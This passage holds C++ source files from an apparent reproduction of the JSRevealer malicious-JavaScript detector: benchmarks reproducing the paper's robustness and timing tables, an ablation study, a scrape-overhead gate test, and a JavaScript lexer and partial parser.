  // round back to back (order alternating), and the gate uses the MINIMUM
  // per-pair ratio. The container's CPU allotment drifts ±15% in
  // multi-second epochs, so global best-of-N minima can come from
  // different epochs and differ by more than the 2% gate; adjacent rounds
  // share an epoch and their ratio cancels the drift. Failing only when
  // every pair exceeds the limit is the one-sided test we want: it fires
  // on real overhead, not on one unlucky round.
  double quiet_ms = 0.0;
  double scraped_ms = 0.0;
  std::vector<double> pair_ratios;
  bool identical = true;
  std::size_t total_scrapes = 0;
  std::size_t scrape_failures = 0;
  std::string scrape_error;
  for (std::size_t r = 0; r < repeats; ++r) {
    double wall_quiet = 0.0;
    double wall_scraped = 0.0;
    Scraper scraper;
    scraper.endpoint = endpoint;
    scraper.hz = scrape_hz;

    const bool quiet_first = r % 2 == 0;
    for (int leg = 0; leg < 2; ++leg) {
      const bool scraped_leg = (leg == 1) == quiet_first;
      double wall = 0.0;
      if (scraped_leg) scraper.start();
      const std::vector<int> v = run_round(sv[1], scripts, &wall);
      if (scraped_leg) scraper.join();
      identical = identical && v == library_verdicts;
      (scraped_leg ? wall_scraped : wall_quiet) = wall;
    }

    if (r == 0 || wall_quiet < quiet_ms) quiet_ms = wall_quiet;
    if (r == 0 || wall_scraped < scraped_ms) scraped_ms = wall_scraped;
    pair_ratios.push_back(wall_quiet > 0.0 ? wall_scraped / wall_quiet
                                           : 1.0);
    total_scrapes += scraper.scrapes;
    scrape_failures += scraper.failures;
    if (scrape_error.empty() && !scraper.first_error.empty()) {
      scrape_error = scraper.first_error;
    }
  }

  // Graceful stop: QUIT drains, BYE confirms; /readyz must already be 503.
  {
    serve::Frame f;
    f.type = serve::FrameType::kQuit;
    const std::string bytes = serve::encode_frame(f);
    (void)!::write(sv[1], bytes.data(), bytes.size());
  }
  server_thread.join();
  std::string ready_body;
  const int ready_status =
      obs::admin_http_get(endpoint, "/readyz", &ready_body);
  admin.stop();
  ::close(sv[0]);
  ::close(sv[1]);

  // --- gates ---------------------------------------------------------------
  std::sort(pair_ratios.begin(), pair_ratios.end());
  const double min_pair_ratio =
      pair_ratios.empty() ? 1.0 : pair_ratios.front();
  const double median_pair_ratio =
      pair_ratios.empty() ? 1.0 : pair_ratios[pair_ratios.size() / 2];
  const double overhead = min_pair_ratio - 1.0;
  const bool overhead_ok = overhead <= overhead_limit;
  const bool scrapes_clean = scrape_failures == 0 && total_scrapes > 0;
  const bool drained_not_ready = ready_status == 503;

  const double quiet_rate =
      quiet_ms > 0.0
          ? static_cast<double>(scripts.size()) / (quiet_ms / 1000.0)
          : 0.0;
  const double scraped_rate =
      scraped_ms > 0.0
          ? static_cast<double>(scripts.size()) / (scraped_ms / 1000.0)
          : 0.0;

  std::printf("bench_admin: %zu scripts/round, %zu paired rounds\n",
              scripts.size(), repeats);
  std::printf("  unscraped saturation   %9.1f ms  -> %.1f scripts/sec\n",
              quiet_ms, quiet_rate);
  std::printf("  scraped @ %.0f Hz        %9.1f ms  -> %.1f scripts/sec\n",
              scrape_hz, scraped_ms, scraped_rate);
  std::printf("  scrape overhead        %+9.2f %%  (min paired ratio; "
              "limit %.0f%%%s)\n",
              overhead * 100.0, overhead_limit * 100.0,
              relax_timing ? ", relaxed" : "");
  std::printf("  median paired ratio    %+9.2f %%\n",
              (median_pair_ratio - 1.0) * 100.0);
  std::printf("  scrapes %zu, failures %zu%s%s\n", total_scrapes,
              scrape_failures, scrape_error.empty() ? "" : " — ",
              scrape_error.c_str());
  std::printf("  /readyz after QUIT: %d (want 503)\n", ready_status);
  std::printf("  verdict bit-identity daemon vs library: %s\n",
              identical ? "ok" : "FAIL");

  // --- envelope -----------------------------------------------------------
  obs::JsonWriter w;
  obs::write_bench_header(w, "admin");
  w.kv("eval_scripts", static_cast<std::uint64_t>(scripts.size()))
      .kv("repeats", static_cast<std::uint64_t>(repeats))
      .kv_fixed("scrape_hz", scrape_hz, 1)
      .kv_fixed("unscraped_ms", quiet_ms, 2)
      .kv_fixed("scraped_ms", scraped_ms, 2)
      .kv_fixed("unscraped_scripts_per_sec", quiet_rate, 1)
      .kv_fixed("scraped_scripts_per_sec", scraped_rate, 1)
      .kv_fixed("scrape_overhead_pct", overhead * 100.0, 3)
      .kv_fixed("scrape_overhead_median_pct",
                (median_pair_ratio - 1.0) * 100.0, 3)
      .kv("scrapes", static_cast<std::uint64_t>(total_scrapes))
      .kv("scrape_failures", static_cast<std::uint64_t>(scrape_failures))
      .kv("readyz_after_quit", static_cast<std::uint64_t>(
                                   ready_status > 0 ? ready_status : 0))
      .kv("verdicts_bit_identical", identical)
      .kv("overhead_within_limit", overhead_ok)
      .kv("timing_gate_relaxed", relax_timing)
      .end_object();
  std::ofstream json("BENCH_admin.json");
  json << w.str() << "\n";
  std::printf("wrote BENCH_admin.json\n");

  bool ok = true;
  if (!identical) {
    std::printf("GATE FAIL: daemon verdicts not bit-identical to library "
                "with admin armed\n");
    ok = false;
  }
  if (!scrapes_clean) {
    std::printf("GATE FAIL: scrape failures (%zu/%zu): %s\n", scrape_failures,
                total_scrapes, scrape_error.c_str());
    ok = false;
  }
  if (!drained_not_ready) {
    std::printf("GATE FAIL: /readyz after QUIT returned %d, want 503\n",
                ready_status);
    ok = false;
  }
  if (!overhead_ok && !relax_timing) {
    std::printf("GATE FAIL: scrape overhead %.2f%% exceeds %.0f%%\n",
                overhead * 100.0, overhead_limit * 100.0);
    ok = false;
  }
  if (!ok) return 1;
  std::printf("gates ok: bit-identical verdicts, clean exposition, %s\n",
              overhead_ok ? "scrape overhead within limit"
                          : "timing waived (relaxed)");
  return 0;
}
