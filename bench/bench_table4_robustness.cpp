// Table IV reproduction: JSRevealer per obfuscator, enhanced AST versus the
// regular-AST ablation.
#include <cstdio>

#include "bench_config.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto base = bench::default_harness_config();

  std::printf("TABLE IV: JSRevealer robustness per obfuscator, enhanced vs "
              "regular AST\n");
  std::printf("paper (enhanced): baseline 99.4 acc; JS-Obf 86.7 / Jfogs 83.3 "
              "/ JSObfu 73.6 / Jshaman 94.2; regular AST: FPR explodes "
              "(avg 61.7)\n\n");

  Table t({"AST", "Obfuscator", "Accuracy", "F1", "FPR", "FNR"});
  for (const bool enhanced : {true, false}) {
    bench::HarnessConfig cfg = base;
    cfg.jsrevealer.path.use_dataflow = enhanced;
    if (!enhanced) {
      // The paper re-tunes K for the regular-AST variant (5/6).
      cfg.jsrevealer.k_benign = 5;
      cfg.jsrevealer.k_malicious = 6;
    }
    const bench::ResultGrid grid =
        bench::run_grid(cfg, {bench::jsrevealer_factory(cfg)});
    const auto& by_cond = grid.begin()->second;
    for (const auto& cond : bench::condition_names()) {
      const ml::Metrics& m = by_cond.at(cond);
      t.add_row({enhanced ? "enhanced" : "regular", cond,
                 bench::pct(m.accuracy), bench::pct(m.f1), bench::pct(m.fpr),
                 bench::pct(m.fnr)});
    }
  }
  std::fputs(t.to_string().c_str(), stdout);
  return 0;
}
