// Table VIII reproduction: per-module runtime per file (google-benchmark
// based for the per-file detection path, plus the pipeline's own stage
// timers for the training-side modules).
#include <benchmark/benchmark.h>

#include <cstdio>
#include <memory>

#include "bench_config.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "util/string_util.h"
#include "util/table.h"

namespace {

using namespace jsrev;

struct Fixture {
  dataset::Corpus test;
  std::unique_ptr<core::JsRevealer> det;

  static Fixture& instance() {
    static Fixture f = [] {
      Fixture fx;
      const auto hc = bench::default_harness_config();
      dataset::GeneratorConfig gc;
      gc.seed = hc.seed;
      gc.benign_count = hc.benign_count / 2;
      gc.malicious_count = hc.malicious_count / 2;
      const dataset::Corpus corpus = dataset::generate_corpus(gc);
      Rng rng(hc.seed);
      const dataset::Split split = dataset::split_corpus(
          corpus, hc.train_per_class / 2, hc.train_per_class / 2, rng);
      fx.test = split.test;
      fx.det = std::make_unique<core::JsRevealer>(hc.jsrevealer);
      fx.det->train(split.train);
      return fx;
    }();
    return f;
  }
};

void BM_DetectOneFile(benchmark::State& state) {
  Fixture& f = Fixture::instance();
  std::size_t i = 0;
  for (auto _ : state) {
    const auto& s = f.test.samples[i % f.test.samples.size()];
    benchmark::DoNotOptimize(f.det->classify(s.source));
    ++i;
  }
}
BENCHMARK(BM_DetectOneFile)->Unit(benchmark::kMillisecond);

void BM_FeaturizeOneFile(benchmark::State& state) {
  Fixture& f = Fixture::instance();
  std::size_t i = 0;
  for (auto _ : state) {
    const auto& s = f.test.samples[i % f.test.samples.size()];
    benchmark::DoNotOptimize(f.det->featurize(s.source));
    ++i;
  }
}
BENCHMARK(BM_FeaturizeOneFile)->Unit(benchmark::kMillisecond);

void print_stage_table() {
  Fixture& f = Fixture::instance();
  const core::StageTimings& t = f.det->timings();

  std::printf("\nTABLE VIII: average time consumed per file (ms)\n");
  std::printf("paper: enhanced AST 221.3 / traversal 348.5 / pre-train 22.5 "
              "/ embed 11.7 / outlier 396.5 / cluster 24.2 / train 0.2 / "
              "classify 0.1 (62 KB avg files, their hardware)\n\n");

  Table table({"Module", "Period", "Avg per file (ms)", "Stddev (ms)"});
  auto row = [&table](const char* module, const char* period,
                      const TimingStats& s, bool with_dev) {
    table.add_row({module, period, fmt(s.mean(), 3),
                   with_dev ? fmt(s.stddev(), 3) : std::string("-")});
  };
  row("Path extraction", "Parse", t.parse, true);
  row("Path extraction", "Enhanced AST", t.enhanced_ast, true);
  row("Path extraction", "Path traversal", t.path_traversal, true);
  row("Path embedding", "Pre-training", t.pretraining, false);
  row("Path embedding", "Embedding", t.embedding, false);
  row("Feature generation", "Outlier detection", t.outlier, false);
  row("Feature generation", "Clustering", t.clustering, false);
  row("Classification", "Training", t.classifier_train, false);
  row("Classification", "Classifying", t.classifying, false);
  std::fputs(table.to_string().c_str(), stdout);

  // parse + enhanced_ast together equal the paper's fused "enhanced AST"
  // figure; the harness samples them separately since the parse moved into
  // the shared ScriptAnalysis artifact.
  const double detect_ms = t.parse.mean() + t.enhanced_ast.mean() +
                           t.path_traversal.mean() + t.embedding.mean() +
                           t.classifying.mean();
  std::printf("\nper-file detection total (extract+embed+classify): %s ms\n",
              fmt(detect_ms, 1).c_str());
}

}  // namespace

int main(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  benchmark::RunSpecifiedBenchmarks();
  print_stage_table();
  return 0;
}
