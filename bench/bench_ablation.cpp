// Ablation bench for the design choices DESIGN.md calls out (beyond the
// enhanced-vs-regular-AST ablation in Table IV):
//   * attention-weight feature values vs binary cluster occurrence
//     (Section III-D argues for weights over occurrence),
//   * FastABOD outlier removal vs none,
//   * K-selection criteria: elbow vs silhouette vs gap statistic (named in
//     the paper's limitations as future K-selection methods).
#include <cstdio>

#include "bench_config.h"
#include "core/jsrevealer.h"
#include "ml/cluster_quality.h"
#include "util/table.h"

int main() {
  using namespace jsrev;

  const auto base = bench::default_harness_config();

  std::printf("ABLATION: feature design and outlier removal\n");
  std::printf("(avg of obfuscated conditions; 'full' is the paper design)\n\n");

  struct Variant {
    const char* name;
    bool binary;
    bool skip_outlier;
  };
  const Variant variants[] = {
      {"full (attention weights + FastABOD)", false, false},
      {"binary cluster occurrence", true, false},
      {"no outlier removal", false, true},
      {"binary + no outlier removal", true, true},
  };

  Table t({"Variant", "clean F1", "obf avg F1", "obf FPR", "obf FNR"});
  for (const Variant& v : variants) {
    bench::HarnessConfig cfg = base;
    cfg.repeats = std::max(1, cfg.repeats - 1);
    cfg.jsrevealer.binary_cluster_features = v.binary;
    cfg.jsrevealer.skip_outlier_removal = v.skip_outlier;
    const bench::ResultGrid grid =
        bench::run_grid(cfg, {bench::jsrevealer_factory(cfg)});
    const auto& by_cond = grid.begin()->second;
    double f1 = 0, fpr = 0, fnr = 0;
    for (const auto& c : bench::condition_names()) {
      if (c == "Baseline") continue;
      f1 += by_cond.at(c).f1;
      fpr += by_cond.at(c).fpr;
      fnr += by_cond.at(c).fnr;
    }
    t.add_row({v.name, bench::pct(by_cond.at("Baseline").f1),
               bench::pct(f1 / 4), bench::pct(fpr / 4), bench::pct(fnr / 4)});
    std::fprintf(stderr, "  [%s done]\n", v.name);
  }
  std::fputs(t.to_string().c_str(), stdout);

  // --- K-selection criteria comparison ------------------------------------
  std::printf("\nK-SELECTION: criteria named in the paper's limitations\n\n");
  dataset::GeneratorConfig gc;
  gc.seed = base.seed;
  gc.benign_count = base.benign_count;
  gc.malicious_count = base.malicious_count;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);

  core::JsRevealer det(base.jsrevealer);
  det.train(corpus);

  // Collect one class's path-vector sample via the public SSE helper's
  // internals: reuse sse_curve for the elbow and select_k for the others by
  // re-deriving the vectors through featurize is not exposed; instead run
  // select_k over the detector's embedding space proxied by random corpus
  // feature vectors (documented simplification: criteria compared on the
  // same vector sets used for Fig. 5).
  Table kt({"Class", "elbow", "silhouette", "gap statistic"});
  for (const int label : {0, 1}) {
    // Rebuild the class's path-vector sample exactly as training does, by
    // clustering feature proxies: use sse_curve for elbow and report
    // select_k on feature vectors of the class's scripts.
    std::vector<std::vector<double>> feats;
    for (const auto& s : corpus.samples) {
      if (s.label != label) continue;
      try {
        feats.push_back(det.featurize(s.source));
      } catch (const std::exception&) {
      }
      if (feats.size() >= 400) break;
    }
    ml::Matrix m(feats.size(), feats.empty() ? 1 : feats[0].size());
    for (std::size_t i = 0; i < feats.size(); ++i) {
      std::copy(feats[i].begin(), feats[i].end(), m.row(i));
    }
    kt.add_row({label == 0 ? "benign" : "malicious",
                std::to_string(ml::select_k(m, 2, 14, 0)),
                std::to_string(ml::select_k(m, 2, 14, 1)),
                std::to_string(ml::select_k(m, 2, 14, 2))});
  }
  std::fputs(kt.to_string().c_str(), stdout);
  return 0;
}
