#include "js/visitor.h"

namespace jsrev::js {

Node* clone(const Node* n, AstArena& arena) {
  if (n == nullptr) return nullptr;
  Node* copy = arena.make(n->kind);
  copy->lit = n->lit;
  copy->str = n->str;
  copy->num = n->num;
  copy->bval = n->bval;
  copy->flags = n->flags;
  copy->line = n->line;
  copy->children.reserve(n->children.size());
  for (const Node* child : n->children) {
    copy->children.push_back(clone(child, arena));
  }
  return copy;
}

}  // namespace jsrev::js
