#include "js/lexer.h"

#include <algorithm>
#include <array>
#include <cctype>
#include <cstdlib>
#include <string>

namespace jsrev::js {
namespace {

constexpr std::array<std::string_view, 38> kKeywords = {
    "break",    "case",     "catch",   "class",  "const",    "continue",
    "debugger", "default",  "delete",  "do",     "else",     "export",
    "extends",  "finally",  "for",     "function", "if",     "import",
    "in",       "instanceof", "let",   "new",    "return",   "super",
    "switch",   "this",     "throw",   "try",    "typeof",   "var",
    "void",     "while",    "with",    "yield",  "enum",     "static",
    "get",      "set"};

bool is_id_start(char c) {
  return std::isalpha(static_cast<unsigned char>(c)) || c == '_' || c == '$' ||
         static_cast<unsigned char>(c) >= 0x80;
}

bool is_id_part(char c) {
  return is_id_start(c) || std::isdigit(static_cast<unsigned char>(c));
}

}  // namespace

std::string_view token_type_name(TokenType t) noexcept {
  switch (t) {
    case TokenType::kEof: return "EOF";
    case TokenType::kIdentifier: return "Identifier";
    case TokenType::kKeyword: return "Keyword";
    case TokenType::kBooleanLiteral: return "Boolean";
    case TokenType::kNullLiteral: return "Null";
    case TokenType::kNumericLiteral: return "Numeric";
    case TokenType::kStringLiteral: return "String";
    case TokenType::kRegexLiteral: return "Regex";
    case TokenType::kTemplateString: return "Template";
    case TokenType::kPunctuator: return "Punctuator";
  }
  return "?";
}

bool is_keyword(std::string_view word) noexcept {
  for (const auto k : kKeywords) {
    if (k == word) return true;
  }
  return false;
}

Lexer::Lexer(std::string_view source, const ParseLimits& limits)
    : src_(source), limits_(limits) {}

std::vector<Token> Lexer::tokenize() {
  if (src_.size() > limits_.max_source_bytes) {
    throw LexError("source exceeds ParseLimits::max_source_bytes (" +
                       std::to_string(src_.size()) + " > " +
                       std::to_string(limits_.max_source_bytes) + ")",
                   1);
  }
  out_.clear();
  // Pre-size from the input: real-world JS averages roughly one token per
  // four source bytes, so one up-front reservation replaces the O(log n)
  // doubling reallocations (and their Token moves) on large inputs. Capped
  // by max_token_count so a hostile limits config cannot oversize it.
  out_.reserve(std::min(src_.size() / 4 + 16, limits_.max_token_count));
  while (true) {
    if (out_.size() >= limits_.max_token_count) {
      fail("token count exceeds ParseLimits::max_token_count (" +
           std::to_string(limits_.max_token_count) + ")");
    }
    Token t = next_token();
    const bool done = t.type == TokenType::kEof;
    out_.push_back(std::move(t));
    prev_ = &out_.back();
    if (done) break;
  }
  return std::move(out_);
}

void Lexer::skip_whitespace_and_comments() {
  while (!eof()) {
    const char c = peek();
    if (c == '\n') {
      newline_pending_ = true;
      ++line_;
      ++pos_;
    } else if (c == ' ' || c == '\t' || c == '\r' || c == '\f' || c == '\v') {
      ++pos_;
    } else if (c == '/' && peek(1) == '/') {
      while (!eof() && peek() != '\n') ++pos_;
    } else if (c == '/' && peek(1) == '*') {
      pos_ += 2;
      while (!eof() && !(peek() == '*' && peek(1) == '/')) {
        if (peek() == '\n') {
          newline_pending_ = true;
          ++line_;
        }
        ++pos_;
      }
      if (eof()) fail("unterminated block comment");
      pos_ += 2;
    } else {
      return;
    }
  }
}

Token Lexer::next_token() {
  skip_whitespace_and_comments();

  Token t;
  t.offset = static_cast<std::uint32_t>(pos_);
  t.line = line_;
  t.newline_before = newline_pending_;
  newline_pending_ = false;

  if (eof()) {
    t.type = TokenType::kEof;
    return t;
  }

  const char c = peek();
  if (is_id_start(c)) {
    Token id = lex_identifier_or_keyword();
    id.offset = t.offset;
    id.line = t.line;
    id.newline_before = t.newline_before;
    return id;
  }
  if (std::isdigit(static_cast<unsigned char>(c)) ||
      (c == '.' && std::isdigit(static_cast<unsigned char>(peek(1))))) {
    Token num = lex_number();
    num.offset = t.offset;
    num.line = t.line;
    num.newline_before = t.newline_before;
    return num;
  }
  if (c == '"' || c == '\'') {
    Token s = lex_string(static_cast<char>(advance()));
    s.offset = t.offset;
    s.line = t.line;
    s.newline_before = t.newline_before;
    return s;
  }
  if (c == '`') {
    Token s = lex_template();
    s.offset = t.offset;
    s.line = t.line;
    s.newline_before = t.newline_before;
    return s;
  }
  if (c == '/' && regex_allowed()) {
    Token r = lex_regex();
    r.offset = t.offset;
    r.line = t.line;
    r.newline_before = t.newline_before;
    return r;
  }
  Token p = lex_punctuator();
  p.offset = t.offset;
  p.line = t.line;
  p.newline_before = t.newline_before;
  return p;
}

Token Lexer::lex_identifier_or_keyword() {
  const std::size_t start = pos_;
  while (!eof() && is_id_part(peek())) ++pos_;
  Token t;
  t.value = std::string(src_.substr(start, pos_ - start));
  if (t.value == "true" || t.value == "false") {
    t.type = TokenType::kBooleanLiteral;
  } else if (t.value == "null" || t.value == "undefined") {
    // `undefined` is technically an identifier, but treating it as a null-like
    // literal simplifies downstream value abstraction and is harmless.
    t.type = t.value == "null" ? TokenType::kNullLiteral
                               : TokenType::kIdentifier;
  } else if (is_keyword(t.value)) {
    t.type = TokenType::kKeyword;
  } else {
    t.type = TokenType::kIdentifier;
  }
  return t;
}

Token Lexer::lex_number() {
  const std::size_t start = pos_;
  if (peek() == '0' && (peek(1) == 'x' || peek(1) == 'X')) {
    pos_ += 2;
    if (eof() || !std::isxdigit(static_cast<unsigned char>(peek()))) {
      fail("missing digits after 0x");
    }
    while (!eof() && std::isxdigit(static_cast<unsigned char>(peek()))) ++pos_;
  } else if (peek() == '0' && (peek(1) == 'b' || peek(1) == 'B')) {
    pos_ += 2;
    if (peek() != '0' && peek() != '1') fail("missing digits after 0b");
    while (!eof() && (peek() == '0' || peek() == '1')) ++pos_;
  } else if (peek() == '0' && (peek(1) == 'o' || peek(1) == 'O')) {
    pos_ += 2;
    if (peek() < '0' || peek() > '7') fail("missing digits after 0o");
    while (!eof() && peek() >= '0' && peek() <= '7') ++pos_;
  } else {
    while (!eof() && std::isdigit(static_cast<unsigned char>(peek()))) ++pos_;
    if (peek() == '.') {
      ++pos_;
      while (!eof() && std::isdigit(static_cast<unsigned char>(peek()))) ++pos_;
    }
    if (peek() == 'e' || peek() == 'E') {
      std::size_t save = pos_;
      ++pos_;
      if (peek() == '+' || peek() == '-') ++pos_;
      if (std::isdigit(static_cast<unsigned char>(peek()))) {
        while (!eof() && std::isdigit(static_cast<unsigned char>(peek())))
          ++pos_;
      } else {
        pos_ = save;  // not an exponent after all
      }
    }
  }
  Token t;
  t.type = TokenType::kNumericLiteral;
  t.value = std::string(src_.substr(start, pos_ - start));
  if (t.value.size() > 2 && t.value[0] == '0' &&
      (t.value[1] == 'b' || t.value[1] == 'B' || t.value[1] == 'o' ||
       t.value[1] == 'O')) {
    const int base = (t.value[1] == 'b' || t.value[1] == 'B') ? 2 : 8;
    t.numeric_value = static_cast<double>(
        std::strtoull(t.value.c_str() + 2, nullptr, base));
  } else {
    t.numeric_value = std::strtod(t.value.c_str(), nullptr);
  }
  return t;
}

Token Lexer::lex_string(char quote) {
  Token t;
  t.type = TokenType::kStringLiteral;
  std::string value;
  while (true) {
    if (eof()) fail("unterminated string literal");
    char c = advance();
    if (c == quote) break;
    if (c == '\n') fail("newline in string literal");
    if (c == '\\') {
      if (eof()) fail("unterminated escape");
      const char e = advance();
      switch (e) {
        case 'n': value += '\n'; break;
        case 't': value += '\t'; break;
        case 'r': value += '\r'; break;
        case 'b': value += '\b'; break;
        case 'f': value += '\f'; break;
        case 'v': value += '\v'; break;
        case '0':
          // `\0` is NUL only when not followed by a decimal digit; `\01` etc.
          // are legacy ES5 octal escapes, which we reject rather than decode
          // so every accepted string round-trips through the printer.
          if (std::isdigit(static_cast<unsigned char>(peek()))) {
            fail("legacy octal escape in string literal");
          }
          value += '\0';
          break;
        case 'x': {
          char buf[3] = {};
          for (int i = 0; i < 2; ++i) {
            if (eof() || !std::isxdigit(static_cast<unsigned char>(peek())))
              fail("bad \\x escape");
            buf[i] = advance();
          }
          value += static_cast<char>(std::strtoul(buf, nullptr, 16));
          break;
        }
        case 'u': {
          // \uXXXX — store the code point UTF-8 encoded. A high surrogate
          // immediately followed by an escaped low surrogate pairs into one
          // supplementary-plane code point, as UTF-16 string semantics
          // demand; a lone surrogate keeps its raw 3-byte encoding (CESU-8)
          // so such strings still round-trip byte-for-byte.
          char buf[5] = {};
          for (int i = 0; i < 4; ++i) {
            if (eof() || !std::isxdigit(static_cast<unsigned char>(peek())))
              fail("bad \\u escape");
            buf[i] = advance();
          }
          unsigned cp = static_cast<unsigned>(std::strtoul(buf, nullptr, 16));
          if (cp >= 0xd800 && cp <= 0xdbff && pos_ + 6 <= src_.size() &&
              src_[pos_] == '\\' && src_[pos_ + 1] == 'u') {
            char lo_buf[5] = {};
            bool lo_hex = true;
            for (int i = 0; i < 4 && lo_hex; ++i) {
              lo_buf[i] = src_[pos_ + 2 + static_cast<std::size_t>(i)];
              lo_hex = std::isxdigit(static_cast<unsigned char>(lo_buf[i]));
            }
            if (lo_hex) {
              const unsigned lo =
                  static_cast<unsigned>(std::strtoul(lo_buf, nullptr, 16));
              if (lo >= 0xdc00 && lo <= 0xdfff) {
                pos_ += 6;
                cp = 0x10000 + ((cp - 0xd800) << 10) + (lo - 0xdc00);
              }
            }
          }
          if (cp < 0x80) {
            value += static_cast<char>(cp);
          } else if (cp < 0x800) {
            value += static_cast<char>(0xc0 | (cp >> 6));
            value += static_cast<char>(0x80 | (cp & 0x3f));
          } else if (cp < 0x10000) {
            value += static_cast<char>(0xe0 | (cp >> 12));
            value += static_cast<char>(0x80 | ((cp >> 6) & 0x3f));
            value += static_cast<char>(0x80 | (cp & 0x3f));
          } else {
            value += static_cast<char>(0xf0 | (cp >> 18));
            value += static_cast<char>(0x80 | ((cp >> 12) & 0x3f));
            value += static_cast<char>(0x80 | ((cp >> 6) & 0x3f));
            value += static_cast<char>(0x80 | (cp & 0x3f));
          }
          break;
        }
        // Line continuations: \<LF>, \<CR>, and \<CR><LF> all contribute
        // nothing to the value and advance the line counter exactly once.
        case '\n': ++line_; break;
        case '\r':
          if (peek() == '\n') ++pos_;
          ++line_;
          break;
        default: value += e; break; // \' \" \\ and identity escapes
      }
    } else {
      value += c;
    }
  }
  t.string_value = std::move(value);
  t.value = t.string_value;
  return t;
}

Token Lexer::lex_template() {
  // Supports template literals without ${} substitutions; treated as a plain
  // string literal downstream.
  advance();  // consume `
  Token t;
  t.type = TokenType::kTemplateString;
  std::string value;
  while (true) {
    if (eof()) fail("unterminated template literal");
    char c = advance();
    if (c == '`') break;
    if (c == '$' && peek() == '{')
      fail("template substitutions are not supported");
    if (c == '\n') ++line_;
    if (c == '\\' && !eof()) {
      const char e = advance();
      if (e == 'n') value += '\n';
      else if (e == 't') value += '\t';
      else value += e;
      continue;
    }
    value += c;
  }
  t.string_value = std::move(value);
  t.value = t.string_value;
  return t;
}

bool Lexer::regex_allowed() const {
  if (prev_ == nullptr) return true;
  switch (prev_->type) {
    case TokenType::kIdentifier:
    case TokenType::kNumericLiteral:
    case TokenType::kStringLiteral:
    case TokenType::kTemplateString:
    case TokenType::kBooleanLiteral:
    case TokenType::kNullLiteral:
    case TokenType::kRegexLiteral:
      return false;
    case TokenType::kKeyword:
      // `this` behaves like a value; every other keyword permits a regex
      // (return /re/, typeof /re/, case /re/:, ...).
      return prev_->value != "this";
    case TokenType::kPunctuator:
      // After ) ] } a slash is division... except `}` which usually closes a
      // block; we err toward regex after `}` (matches Esprima's behaviour for
      // statement-final blocks).
      return !(prev_->value == ")" || prev_->value == "]" ||
               prev_->value == "++" || prev_->value == "--");
    default:
      return true;
  }
}

Token Lexer::lex_regex() {
  const std::size_t start = pos_;
  advance();  // consume '/'
  bool in_class = false;
  while (true) {
    if (eof()) fail("unterminated regular expression");
    char c = advance();
    if (c == '\\') {
      if (eof()) fail("unterminated regex escape");
      advance();
    } else if (c == '[') {
      in_class = true;
    } else if (c == ']') {
      in_class = false;
    } else if (c == '/' && !in_class) {
      break;
    } else if (c == '\n') {
      fail("newline in regular expression");
    }
  }
  while (!eof() && is_id_part(peek())) ++pos_;  // flags
  Token t;
  t.type = TokenType::kRegexLiteral;
  t.value = std::string(src_.substr(start, pos_ - start));
  return t;
}

Token Lexer::lex_punctuator() {
  static constexpr std::array<std::string_view, 10> four_three = {
      ">>>=", "===", "!==", ">>>", "<<=", ">>=", "**=", "...", "&&=", "||="};
  static constexpr std::array<std::string_view, 19> two = {
      "==", "!=", "<=", ">=", "&&", "||", "++", "--", "+=", "-=",
      "*=", "/=", "%=", "&=", "|=", "^=", "<<", ">>", "=>"};

  const std::string_view rest = src_.substr(pos_);
  Token t;
  t.type = TokenType::kPunctuator;
  for (const auto p : four_three) {
    if (rest.substr(0, p.size()) == p) {
      t.value = std::string(p);
      pos_ += p.size();
      return t;
    }
  }
  for (const auto p : two) {
    if (rest.substr(0, 2) == p) {
      t.value = std::string(p);
      pos_ += 2;
      return t;
    }
  }
  const char c = advance();
  switch (c) {
    case '{': case '}': case '(': case ')': case '[': case ']':
    case ';': case ',': case '<': case '>': case '+': case '-':
    case '*': case '/': case '%': case '&': case '|': case '^':
    case '!': case '~': case '?': case ':': case '=': case '.':
      t.value = std::string(1, c);
      return t;
    default:
      fail(std::string("unexpected character '") + c + "'");
  }
}

}  // namespace jsrev::js
