#include "js/parser.h"

#include <utility>
#include <vector>

#include "js/lexer.h"
#include "obs/metrics.h"
#include "obs/trace.h"

namespace jsrev::js {
namespace {

// Binary operator precedence (higher binds tighter). Logical || / && are
// handled here too but produce LogicalExpression nodes.
int binary_precedence(std::string_view op, bool no_in) {
  if (op == "||") return 1;
  if (op == "&&") return 2;
  if (op == "|") return 3;
  if (op == "^") return 4;
  if (op == "&") return 5;
  if (op == "==" || op == "!=" || op == "===" || op == "!==") return 6;
  if (op == "<" || op == ">" || op == "<=" || op == ">=" ||
      op == "instanceof")
    return 7;
  if (op == "in") return no_in ? 0 : 7;
  if (op == "<<" || op == ">>" || op == ">>>") return 8;
  if (op == "+" || op == "-") return 9;
  if (op == "*" || op == "/" || op == "%") return 10;
  return 0;
}

class Parser {
 public:
  explicit Parser(std::string_view source, const ParseLimits& limits)
      : limits_(limits), source_size_(source.size()) {
    Lexer lexer(source, limits);
    tokens_ = lexer.tokenize();
  }

  Ast run() {
    Ast ast;
    arena_ = &ast.arena;
    // Pre-size the child pool and atom storage from the input size so large
    // scripts don't pay repeated reallocation churn while building.
    arena_->store().reserve_for_source(source_size_);
    Node* program = make(NodeKind::kProgram);
    while (!at_eof()) {
      program->children.push_back(parse_statement());
    }
    ast.root = program;
    // Compaction subsumes finalize_tree (preorder ids, parents, lines) and
    // additionally rewrites the tree into contiguous preorder storage, so
    // every consumer of parse() walks cache-linear memory.
    ast.compact();
    return ast;
  }

 private:
  // --- token helpers -------------------------------------------------------

  const Token& cur() const { return tokens_[pos_]; }
  const Token& ahead(std::size_t n = 1) const {
    const std::size_t i = pos_ + n;
    return i < tokens_.size() ? tokens_[i] : tokens_.back();
  }
  bool at_eof() const { return cur().type == TokenType::kEof; }

  const Token& take() { return tokens_[pos_++]; }

  bool is_punct(std::string_view v) const {
    return cur().type == TokenType::kPunctuator && cur().value == v;
  }
  bool is_keyword_tok(std::string_view v) const {
    return cur().type == TokenType::kKeyword && cur().value == v;
  }

  bool eat_punct(std::string_view v) {
    if (!is_punct(v)) return false;
    ++pos_;
    return true;
  }
  bool eat_keyword(std::string_view v) {
    if (!is_keyword_tok(v)) return false;
    ++pos_;
    return true;
  }

  void expect_punct(std::string_view v) {
    if (!eat_punct(v)) {
      fail(std::string("expected '") + std::string(v) + "' but found '" +
           cur().value + "'");
    }
  }
  void expect_keyword(std::string_view v) {
    if (!eat_keyword(v)) {
      fail(std::string("expected keyword '") + std::string(v) + "'");
    }
  }

  [[noreturn]] void fail(const std::string& message) const {
